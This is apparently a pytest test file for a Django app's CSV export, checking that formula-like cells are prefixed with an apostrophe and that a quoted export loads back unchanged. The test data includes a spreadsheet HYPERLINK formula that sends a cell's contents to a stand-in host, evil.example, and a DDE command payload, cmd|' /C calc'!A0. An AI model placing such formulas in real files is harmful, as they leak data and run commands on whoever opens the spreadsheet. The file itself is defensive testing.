"""A CSV export never hands a spreadsheet a formula to run, and still loads back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from guwah.positions import services
from guwah.positions.models import Instrument, Position, State

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "open")'


def _rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_state_name_that_is_a_formula_comes_out_quoted(
    client: Client, loaded: services.LoadReport
) -> None:
    # Written straight to the table, as an attacker with database access would.
    State.objects.filter(code="FRA").update(name=FORMULA)

    rows = _rows(client.get(reverse("positions:export_positions_csv"), {"state": "FRA"}))

    assert rows and {row["country"] for row in rows} == {"'" + FORMULA}


def test_a_source_that_is_a_formula_comes_out_quoted(
    client: Client, loaded: services.LoadReport
) -> None:
    position = Position.objects.get(state_id="FRA", instrument__code="HRC50-critical")
    Position.objects.filter(pk=position.pk).update(source_url="+" + FORMULA[1:])

    rows = _rows(
        client.get(reverse("positions:export_positions_csv"), {"instrument": "HRC50-critical"})
    )

    assert {row["source_url"] for row in rows if row["iso3"] == "FRA"} == {"'+" + FORMULA[1:]}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_of_the_instruments_export_that_starts_like_a_formula_is_quoted(
    client: Client, start: str, loaded: services.LoadReport
) -> None:
    Instrument.objects.filter(code="HRC50-critical").update(
        forum=start + "cmd|' /C calc'!A0", listed_note=start + "1+1"
    )

    rows = _rows(client.get(reverse("positions:export_instruments_csv")))

    row = next(row for row in rows if row["code"] == "HRC50-critical")
    assert row["forum"] == "'" + start + "cmd|' /C calc'!A0"
    assert row["listed_note"] == "'" + start + "1+1"
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_a_quoted_export_loads_back_as_it_was(
    client: Client, tmp_path: Path, administrator, loaded: services.LoadReport
) -> None:
    Instrument.objects.filter(code="HRC50-critical").update(forum="=1+1 Council")
    (tmp_path / "positions.csv").write_bytes(
        client.get(reverse("positions:export_positions_csv")).content
    )
    (tmp_path / "instruments.csv").write_bytes(
        client.get(reverse("positions:export_instruments_csv")).content
    )

    report = services.load(administrator, tmp_path / "positions.csv")

    assert not report.changed_anything
    assert Instrument.objects.get(code="HRC50-critical").forum == "=1+1 Council"
